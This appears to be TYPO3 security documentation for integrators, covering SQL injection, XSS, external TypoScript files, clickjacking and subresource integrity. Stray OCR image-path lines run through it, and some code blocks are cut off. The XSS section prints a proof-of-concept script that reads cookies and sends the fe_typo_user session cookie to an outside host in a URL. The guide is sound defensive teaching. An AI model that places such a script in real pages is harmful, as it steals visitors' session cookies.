SQL injection

The CWE/SANS list of top 25 most dangerous software errors ranks "SQL injection" first! The TYPO3 Security Team comes across this security vulnerability in TYPO3 extensions over and over again.

On the PHP side, this situation improved a lot in TYPO3 with the doctrine API using prepared statements with createNamedParameter(), quoteIdentifier() and escapeLikeWildcards().

But TYPO3 integrators (and everyone who writes code using TypoScript) should be warned that due to the sophistication of TYPO3's configuration language, SQL injections are also possible in TypoScript, for example using the CONTENT content object and building the SQL query with values from the GET/POST request.

The following code snippet gives an example:

page = PAGE
page.10 = CONTENT
page.10 {
  table = tt_content
  select {
    pidInList = 123
    where = deleted=0 AND uid=###CONTENTID###
    markers {
        CONTENTID.data = GP:fooid

Argument passed by the GET / POST request fooid wrapped as markers are properly escaped and quoted to prevent SQL injection problems.

See TypoScript Reference for more information.

As a rule, you cannot trust (and must not use) any data from a source you do not control without proper verification and validation (e.g. user input, other servers, etc.).

Cross-site scripting (XSS)

Similar applies for XSS placed in TypoScript code. The following code snippet gives an example:

page = PAGE
page.10 = COA
page.10 {10 = TEXT
  10.value (
    <h1>XSS + TypoScript - proof of concept</h1>
    <p>Submitting (harmless) cookie data to google.com in a few seconds...</p>
  20 = TEXT
  20.value (
    <script type="text/javascript">
    // read cookies
    var i, key, data, cookies = document.cookie.split(";");
    var loc = window.location;
    for (i = 0; i < cookies.length; i++) {
      // separate key and value
      key = cookies[i].substr(0, cookies[i].indexOf("="));
      data = cookies[i].substr(cookies[i].indexOf("=") + 1);key = key.replace(/^\s+|\s+$/g,"");
      // show key and value
      document.write(unescape(key) + ': ' + unescape(data) + '<br />');
      // submit cookie data to another host
      if (key == 'fe_typo_user') {
        setTimeout(function() {
          loc = 'https://www.google.com/?q=' + loc.hostname ;
          window.location = loc + ':' + unescape(key) + ':' + unescape(data);
        }, 5000);

TYPO3 outputs the JavaScript code in page.10.20.value on the page. The script is executed on the client side (in the user's browser), reads and displays all cookie name/value pairs. In the case that a cookie named fe_typo_user exists, the cookie value will be passed to google.com, together with some extra data.

This code snippet is harmless of course but it shows how malicious code (e.g. JavaScript) can be placed in the HTML content of a page by using TypoScript.

External file inclusion

TYPO3 allows to include external files which implement TypoScript code. Some integrators appreciate the option of having TypoScript outside of TYPO3's backend because the files can be maintained in a version control system and/or can be edited without the need to login to TYPO3. A typical line to include an external TypoScript file looks like this:<INCLUDE_TYPOSCRIPT: source="FILE:fileadmin/setup/myConfig.typoscript">

It is obvious that this method introduces some serious security risks: first, the file myConfig.typoscript exists in a publicly accessible path of the web server. Without any further protection, everyone who knows or is able to guess the path/file name can access/download this file which often causes an information disclosure.

In order to deny access to all files with the file ending .typoscript, the following Apache configuration could be used:

<FilesMatch "\.typoscript">
  deny from all

However, external TypoScript files have another vulnerability: in the case that an attacker manages to manipulate these files (e.g. via a compromised FTP account), it is possible to compromise the TYPO3 system or to place malicious code (e.g. XSS) in the output of the pages generated by the CMS. This attack scenario even does not require access to the TYPO3 backend.TYPO3 editors must never be able to edit externally included TypoScript files, since this will have the same impact as the previous attack scenario (e.g. in case of a compromised editor account).


Clickjacking is an attack scenariowhere an attacker tricks a web user into clicking on a button or following a link different from what the user believes he/she is clicking on. Please see clickjacking for further details. It may be beneficial to include a HTTP header X-Frame-Options on frontend pages to protect the TYPO3 website against this attack vector. Please consult with your system administrator about pros and cons of this configuration.

The following TypoScript adds the appropriate line to the HTTP header:

config.additionalHeaders = X-Frame-Options: SAMEORIGIN

Integrity of external JavaScript files

The TypoScript property integrity allows integrators to specify a SRI hash in order to allow a verification of the integrity of externally hosted JavaScript files. SRI (Sub-Resource Integrity) is a W3C specification that allows web developers to ensure that resources hosted on third-party servers have not been tampered with.

The TypoScript property can be used for the following PAGE properties:

  • page.includeJSLibs
  • page.includeJSFooterlibs
  • includeJS
  • includeJSFooter

A typical example in TypoScript looks like:

page {
  includeJS {
    jQuery = https://code.jquery.com/jquery-1.11.3.min.js
    jQuery.external = 1
    jQuery.disableCompression = 1
    jQuery.excludeFromConcatenation = 1
    jQuery.integrity = sha256-7LkWEzqTdpEfELxcZZlS6wAx5Ff13zZ83lYO2/ujj7g=

Risk of externally hosted JavaScript libraries

In many cases, it makes perfect sense to include JavaScript libraries, which are externally hosted. Like the example above, many libraries are hosted by CDN providers (Content Delivery Network) from an external resource rather than the own server or hosting infrastructure. This approach reduces the load and traffic of your own server and may speed up the loading time for your end-users, in particular if well-known libraries are used.

However,JavaScript libraries of any kind and nature, for example feedback, comment or discussion forums, as well as user tracking, statistics, additional features, etc. which are hosted somewhere, can be compromised, too.

If you include a JavaScript library that is hosted under https://example.org/js/feedback.js and the systems of operator of example.org are compromised, your site and your site visitors are under risk, too.

JavaScript running in the browser of your end-users is able to intercept any input, for example sensitive data such as personal details, credit card numbers, etc. From a securityperspective, it it recommended to either not to use externally hosted JavaScript filesor to only include themon pages, where necessary. On pages, where users enter data, they should be removed.